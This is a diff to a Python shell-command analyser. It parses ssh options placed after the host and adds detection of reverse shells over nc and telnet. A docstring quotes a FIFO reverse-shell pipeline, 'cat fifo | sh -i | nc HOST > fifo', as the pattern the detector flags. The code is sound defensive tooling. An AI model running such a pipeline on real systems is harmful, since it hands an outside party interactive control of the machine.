@@ -12,7 +12,9 @@ from functools import cache
 from ..model.effect import Effect, EffectKind, Target, TargetKind
 from ..shell.invocation import Field, Known, literal
 from .call import Call, Program, Scene
+from .flow import upstream
 from .hosts import address_attributes, host_of, host_target, is_local
+from .options import split
 from .roles import file_effects
 from .verbs import shown, with_attributes
 
@@ -48,11 +50,25 @@ def ssh_option(field: Field, call: Call, scene: Scene) -> Iterator[Effect]:
     yield from scene.nested_shell(command, call, via=f"{call.name} -o {match[1]}")
 
 
+_AFTER_HOST = Program(
+    ("ssh",), options="-b -B -c -D -E -e -F -I -i -J -L -l -m -O -o -p -P -Q -R -S -W -w", style="stop"
+)
 _SSH_OPTIONS = "-b -B -c -D -E -e -F -I -i -J -L -l -m -O -o -p -P -Q -R -S -W -w"
+
+
+def _options_behind(call: Call) -> Call:
+    """ssh reads options behind the host too (`ssh HOST -p 2222 -o ...  COMMAND`); they count as if they stood before it."""
+    if len(call.operands) < 2 or not (call.operands[1].text or call.operands[1].prefix).startswith("-"):
+        return call
+    behind = split(_AFTER_HOST, call.operands[1:])
+    return call.replace(
+        flags=(*call.flags, *behind.flags), values=(*call.values, *behind.values), operands=(call.operands[0], *behind.operands)
+    )
 
 
 def ssh(call: Call, scene: Scene) -> Iterator[Effect]:
     """ssh HOST [COMMAND]: words of the command are joined by blanks, as ssh does."""
+    call = _options_behind(call)
     if call.has("-V", "-Q", "-G") or not call.operands:
         return
     for field in (f for o, f in call.values if o == "-o"):
@@ -242,6 +258,19 @@ def tied(call: Call, scene: Scene, where: Target, command: Field | str, via: str
     yield from scene.nested_shell(text, call, via=via)
 
 
+def shell_behind(call: Call, scene: Scene) -> bool:
+    """Whether what is sent comes out of a shell that runs whatever it is told: `cat fifo | sh -i | nc HOST > fifo`."""
+    from .output import stdin_text
+
+    for index in upstream(call.invocation.stdin.producers, scene):
+        invocation = scene.invocations[index]
+        words = [word.text or word.prefix for word in invocation.words]
+        if words and _shell_program().match(words[0]) and all(word.startswith("-") for word in words[1:]) and "-c" not in words:
+            if stdin_text(invocation, scene) is None:
+                return True
+    return False
+
+
 def netcat(call: Call, scene: Scene) -> Iterator[Effect]:
     """nc, ncat, netcat: -e/-c tie a program to the socket; -z only looks; what stdin holds is sent."""
     program = call.value("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
@@ -264,6 +293,8 @@ def netcat(call: Call, scene: Scene) -> Iterator[Effect]:
     kind = EffectKind.NET_UPLOAD if stdin in ("pipe", "text", "file") else EffectKind.NET_CONNECT
     from .http_request import fed_with
 
+    if shell_behind(call, scene):
+        yield call.effect(EffectKind.NET_REMOTE_EXEC, where, reverse="1", via="nc", port=port)
     upload = fed_with(call, scene) if kind is EffectKind.NET_UPLOAD else ""
     yield call.effect(kind, where, address_attributes(where.text), upload=upload, via="nc", port=port)
 
@@ -308,6 +339,8 @@ def telnet(call: Call, scene: Scene) -> Iterator[Effect]:
     """telnet HOST [PORT]."""
     if call.operands:
         where = host_target(call.operands[0])
+        if shell_behind(call, scene):
+            yield call.effect(EffectKind.NET_REMOTE_EXEC, where, reverse="1", via=call.name)
         sends = call.invocation.stdin.kind in ("pipe", "text", "file")
         kind = EffectKind.NET_UPLOAD if sends else EffectKind.NET_CONNECT
         yield call.effect(kind, where, address_attributes(where.text), via=call.name, upload="stdin" if sends else "")
